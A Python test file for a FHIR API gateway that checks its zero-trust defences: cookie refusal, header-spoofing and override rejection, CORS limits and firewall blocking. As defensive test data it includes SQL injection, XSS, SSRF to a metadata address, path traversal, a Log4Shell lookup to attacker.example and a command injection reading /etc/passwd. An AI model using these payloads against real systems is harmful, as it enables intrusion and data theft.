"""Zero trust at the gateway: cookies, steering headers, Connection, client
address, address lists, CORS and traffic-filter blocks (CK-*, CORS-*, GW-*)."""

from __future__ import annotations

from pathlib import Path

import pytest

from kaitiaki.errors import ConfigError
from kaitiaki.settings import parse_settings
from tests.gateway.conftest import GatewayUnderTest, StandIn, gateway_toml
from tests.gateway.zero_trust_support import gateway_with

FHIR = {"Accept": "application/fhir+json"}
APP = "https://app.example"


def bearer(token: str) -> dict[str, str]:
    return {**FHIR, "Authorization": f"Bearer {token}"}


def refused(gw: GatewayUnderTest, response: object, status: int) -> None:
    assert response.status_code == status, response.text  # type: ignore[attr-defined]
    assert gw.recorder.requests == []


COOKIES = [
    [("Cookie", "session=valid")],
    [("cookie", "session=valid; other=1")],
    [("COOKIE", "a=b")],
    [("Cookie", "a=b"), ("Cookie", "c=d")],
    [("Cookie", "")],
]


def test_cookie_refused_even_with_valid_token(
    gateway: GatewayUnderTest, standin: StandIn
) -> None:
    for cookies in COOKIES:
        headers = [*bearer(standin.token()).items(), *cookies]
        response = gateway.client.get("/fhir/Patient", headers=headers)
        refused(gateway, response, 401)
        assert gateway.events()[-1]["refusal_code"] == "cookie_present"


def test_ck01_cookie_next_to_garbage_bearer_is_401(gateway: GatewayUnderTest) -> None:
    for token in ("not-a-jwt", "e30.e30.", "Bearer", "a.b.c"):
        headers = {**FHIR, "Authorization": f"Bearer {token}", "Cookie": "session=1"}
        refused(gateway, gateway.client.get("/fhir/Patient", headers=headers), 401)


def test_cookie_stripped_by_named_setting(standin: StandIn, tmp_path: Path) -> None:
    with gateway_with(standin, tmp_path, gateway={"strip_cookies": True}) as gw:
        headers = {**bearer(standin.token()), "Cookie": "session=valid"}
        response = gw.client.get("/fhir/Patient", headers=headers)
        assert response.status_code == 200
        assert "cookie" not in gw.recorder.requests[0]["headers"]
        garbage = {**FHIR, "Authorization": "Bearer x", "Cookie": "session=valid"}
        assert gw.client.get("/fhir/Patient", headers=garbage).status_code == 401


def test_set_cookie_never_reaches_the_client(
    gateway: GatewayUnderTest, standin: StandIn
) -> None:
    response = gateway.client.get("/fhir/metadata", headers=FHIR)
    assert response.status_code == 200
    assert "set-cookie" not in response.headers
    assert not response.cookies


def test_gw07_forwarded_uri_never_decides(gateway: GatewayUnderTest) -> None:
    for header in ("X-Forwarded-Uri", "x-forwarded-uri", "X-Forwarded-Path"):
        response = gateway.client.get(
            "/fhir/Patient", headers={**FHIR, header: "/fhir/metadata"}
        )
        refused(gateway, response, 401)


OVERRIDES = (
    "X-HTTP-Method-Override",
    "x-http-method-override",
    "X-HTTP-Method",
    "X-Method-Override",
    "X-Original-Method",
    "X-HTTP-Method-Override-Foo",
    "X-Original-URL",
    "X-Rewrite-URL",
    "X-Original-URI",
)


def test_gw08_method_and_url_override_refused(
    gateway: GatewayUnderTest, standin: StandIn
) -> None:
    token = standin.token({"scope": "system/Patient.rs"})
    for header in OVERRIDES:
        for value in ("DELETE", "delete", "/fhir/Patient/pat-B"):
            response = gateway.client.get(
                "/fhir/Patient/pat-A", headers={**bearer(token), header: value}
            )
            refused(gateway, response, 400)


SPOOFS = [
    {"X-Real-IP": "10.0.0.1"},
    {"X-Forwarded-For": "10.0.0.1"},
    {"x-forwarded-for": "10.0.0.1, 10.0.0.2"},
    {"Forwarded": "for=10.0.0.1"},
    {"Forwarded": 'for="[2001:db8::1]:4711";proto=https'},
    {"True-Client-IP": "10.0.0.1", "X-Client-IP": "10.0.0.1"},
    {"CF-Connecting-IP": "10.0.0.1"},
]


def test_gw10_spoofed_client_address_cannot_pass_an_allow_list(
    standin: StandIn, tmp_path: Path
) -> None:
    allow = {"allow_networks": ("10.0.0.0/8",)}
    with gateway_with(standin, tmp_path, waf=allow) as gw:
        for headers in SPOOFS:
            response = gw.client.get(
                "/fhir/Patient", headers={**bearer(standin.token()), **headers}
            )
            refused(gw, response, 403)
            event = gw.events()[-1]
            assert event["client_address"] == "127.0.0.1"
            assert event["refusal_code"] == "address_denied"


def test_deny_list_refuses_before_any_credential(
    standin: StandIn, tmp_path: Path
) -> None:
    with gateway_with(standin, tmp_path, waf={"deny_networks": ("127.0.0.0/8",)}) as gw:
        refused(gw, gw.client.get("/fhir/metadata", headers=FHIR), 403)
        assert gw.client.get("/fhir/metadata").json()["issue"][0]["code"] == "security"


def test_trusted_proxy_supplies_the_client_address(
    standin: StandIn, tmp_path: Path
) -> None:
    proxies = {"trusted_proxies": ("127.0.0.1/32",)}
    with gateway_with(standin, tmp_path, gateway=proxies) as gw:
        headers = {
            **bearer(standin.token()),
            "X-Forwarded-For": "198.51.100.7, 203.0.113.9",
            "X-Forwarded-Proto": "https",
        }
        assert gw.client.get("/fhir/Patient", headers=headers).status_code == 200
        assert gw.events()[-1]["client_address"] == "203.0.113.9"
        sent = gw.recorder.requests[0]["headers"]
        assert sent.get("x-forwarded-for") is None
        assert sent["x-forwarded-host"] == "gw.example"


def test_rl01_rotating_forwarded_for_shares_one_address_limit(
    standin: StandIn, tmp_path: Path
) -> None:
    with gateway_with(standin, tmp_path, limits={"address_rate": "3/minute"}) as gw:
        statuses = [
            gw.client.get(
                "/fhir/metadata", headers={**FHIR, "X-Forwarded-For": f"10.0.0.{n}"}
            ).status_code
            for n in range(6)
        ]
        assert statuses == [200, 200, 200, 429, 429, 429]
        assert len(gw.recorder.requests) == 3


CONNECTIONS = (
    "close, Authorization",
    "keep-alive, X-Forwarded-For",
    "Kaitiaki-Client-Id",
    "TE",
    "Upgrade, HTTP2-Settings",
    "close,content-type",
    "x-correlation-id",
)


def test_connection_naming_a_header_is_refused(
    gateway: GatewayUnderTest, standin: StandIn
) -> None:
    for connection in CONNECTIONS:
        headers = {**bearer(standin.token()), "Connection": connection}
        refused(gateway, gateway.client.get("/fhir/Patient", headers=headers), 400)
        assert gateway.events()[-1]["refusal_code"] == "connection_header"


def test_connection_close_and_keep_alive_pass(
    gateway: GatewayUnderTest, standin: StandIn
) -> None:
    for connection in ("keep-alive", "close", "Keep-Alive"):
        headers = {**bearer(standin.token()), "Connection": connection}
        assert gateway.client.get("/fhir/Patient", headers=headers).status_code == 200
    assert len(gateway.recorder.requests) == 3


UNLISTED = (
    "https://attacker.example",
    "https://app.example.attacker.example",
    "https://app.example/",
    "HTTPS://APP.EXAMPLE",
    "null",
    "http://app.example",
)


def test_cors01_unlisted_origin_gets_no_cors_headers(
    standin: StandIn, tmp_path: Path
) -> None:
    with gateway_with(standin, tmp_path, cors={"allow_origins": (APP,)}) as gw:
        for origin in UNLISTED:
            preflight = gw.client.options(
                "/fhir/Patient",
                headers={"Origin": origin, "Access-Control-Request-Method": "GET"},
            )
            assert preflight.status_code == 403
            actual = gw.client.get(
                "/fhir/Patient", headers={**bearer(standin.token()), "Origin": origin}
            )
            assert actual.status_code == 200
            for response in (preflight, actual):
                assert "access-control-allow-origin" not in response.headers
                assert "access-control-allow-credentials" not in response.headers
        assert len(gw.recorder.requests) == len(UNLISTED)


def test_cors_listed_origin_preflight_answered_by_the_gateway(
    standin: StandIn, tmp_path: Path
) -> None:
    with gateway_with(standin, tmp_path, cors={"allow_origins": (APP,)}) as gw:
        preflight = gw.client.options(
            "/fhir/Patient",
            headers={
                "Origin": APP,
                "Access-Control-Request-Method": "POST",
                "Access-Control-Request-Headers": "authorization, content-type",
            },
        )
        assert preflight.status_code == 204
        assert preflight.headers["access-control-allow-origin"] == APP
        assert "access-control-allow-credentials" not in preflight.headers
        assert gw.recorder.requests == []
        odd = gw.client.options(
            "/fhir/Patient",
            headers={
                "Origin": APP,
                "Access-Control-Request-Method": "GET",
                "Access-Control-Request-Headers": "x-http-method-override",
            },
        )
        assert odd.status_code == 403
        actual = gw.client.get(
            "/fhir/Patient", headers={**bearer(standin.token()), "Origin": APP}
        )
        assert actual.headers["access-control-allow-origin"] == APP
        assert actual.headers["vary"] == "Origin"
        assert "access-control-allow-credentials" not in actual.headers


@pytest.mark.parametrize("origin", ["*", "https://*.example", "app.example"])
def test_cors_wildcards_are_refused_at_start(
    standin: StandIn, tmp_path: Path, origin: str
) -> None:
    text = gateway_toml(standin.url, "http://up", tmp_path)
    with pytest.raises(ConfigError, match="allow_origins"):
        parse_settings(text + f'[cors]\nallow_origins = ["{origin}"]\n', source="t")


def test_no_hsts_on_a_plain_listener(gateway: GatewayUnderTest) -> None:
    response = gateway.client.get("/fhir/metadata", headers=FHIR)
    assert "strict-transport-security" not in response.headers
    assert response.headers["referrer-policy"] == "no-referrer"
    assert "default-src 'none'" in response.headers["content-security-policy"]


QUERIES = (
    "name=x%27%20OR%20%271%27%3D%271",
    "name=%3Cscript%3Ealert(1)%3C/script%3E",
    "_profile=http://169.254.169.254/latest/meta-data/",
    "name=..%2F..%2F..%2Fetc%2Fpasswd",
    "name=%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D",
    "name=%3B%20cat%20%2Fetc%2Fpasswd",
)


def test_waf_blocks_attacks_in_the_query_and_audits_rules(
    gateway: GatewayUnderTest, standin: StandIn
) -> None:
    for query in QUERIES:
        response = gateway.client.get(
            f"/fhir/Patient?{query}", headers=bearer(standin.token())
        )
        refused(gateway, response, 403)
        issue = response.json()["issue"][0]
        assert issue["code"] == "security"
        assert "sqli" not in response.text and "rule" not in response.text
        event = gateway.events()[-1]
        assert event["waf_score"] >= 5
        assert event["waf_rules"]
        assert event["refusal_code"] == "waf_block"


def test_waf_blocks_a_scanner_before_authentication(gateway: GatewayUnderTest) -> None:
    response = gateway.client.get(
        "/fhir/metadata", headers={**FHIR, "User-Agent": "sqlmap/1.7.2#stable"}
    )
    refused(gateway, response, 403)


@pytest.mark.parametrize(
    ("resource", "status"),
    [
        (b'{"resourceType":"Patient","name":[{"text":"<script>x()</script>"}]}', 403),
        (b'{"resourceType":"Patient","name":[{"family":"O\'Brien"}]}', 201),
        (
            b'{"resourceType":"Patient","text":{"status":"generated","div":'
            b'"<div xmlns=\\"http://www.w3.org/1999/xhtml\\"><p>Ms <b>O\'Brien</b>'
            b'</p></div>"}}',
            201,
        ),
        (
            b'{"resourceType":"Patient","text":{"status":"generated","div":'
            b'"<div xmlns=\\"http://www.w3.org/1999/xhtml\\"><p onclick=\\"x()\\">a'
            b'</p></div>"}}',
            403,
        ),
    ],
)
def test_waf_reads_every_json_string_of_the_body(
    gateway: GatewayUnderTest, standin: StandIn, resource: bytes, status: int
) -> None:
    token = standin.token({"scope": "system/Patient.c"})
    response = gateway.client.post(
        "/fhir/Patient",
        headers={**bearer(token), "Content-Type": "application/fhir+json"},
        content=resource,
    )
    assert response.status_code == status
    assert len(gateway.recorder.requests) == (1 if status == 201 else 0)


PATH_SPELLINGS = (
    ("/fhir/metadata/%2e%2e/Patient/pat-B", 400),
    ("/fhir/metadata/%2E%2E/Patient/pat-B", 400),
    ("/fhir/metadata/./Patient", 404),  # the client merges "./" itself
    ("/fhir/Patient%5Cpat-B", 400),
    ("/fhir/%2FPatient/pat-B", 400),
    ("/fhir/Patient/pat-B/", 400),
    ("/fhir;x=1/Patient/pat-B", 400),
    ("/fhir/Patient%252Fpat-B", 400),
    ("/Fhir/Patient/pat-B", 404),
    ("/FHIR/PATIENT/pat-B", 404),
    ("/fhir/patient/pat-B", 404),
)


def test_gw01_gw02_gw05_path_spellings_never_reach_the_upstream(
    gateway: GatewayUnderTest,
) -> None:
    for path, status in PATH_SPELLINGS:
        response = gateway.client.get(path, headers=FHIR)
        assert response.status_code == status, path
    assert gateway.recorder.requests == []


def test_upstream_cookies_are_never_kept_nor_replayed(
    standin: StandIn, tmp_path: Path
) -> None:
    # One HTTP client serves every caller: a cookie jar in it would carry the
    # upstream session one caller was given to the next caller's requests.
    import httpx

    from kaitiaki.gateway.app import Gateway
    from tests.conftest import ThreadServer
    from tests.gateway.conftest import Recorder, upstream_app

    recorder = Recorder()
    with ThreadServer(upstream_app(recorder)) as upstream:
        # By host name: cookie jars keep no cookies of bare IP addresses.
        named = upstream.url.replace("127.0.0.1", "localhost")
        toml = gateway_toml(standin.url, named, tmp_path)
        settings = parse_settings(toml, source="t")
        with (
            ThreadServer(Gateway(settings)) as server,
            httpx.Client(base_url=server.url, timeout=10) as client,
        ):
            for _ in range(3):
                response = client.get("/fhir/Patient", headers=bearer(standin.token()))
                assert response.status_code == 200
    assert len(recorder.requests) == 3
    assert all("cookie" not in seen["headers"] for seen in recorder.requests)
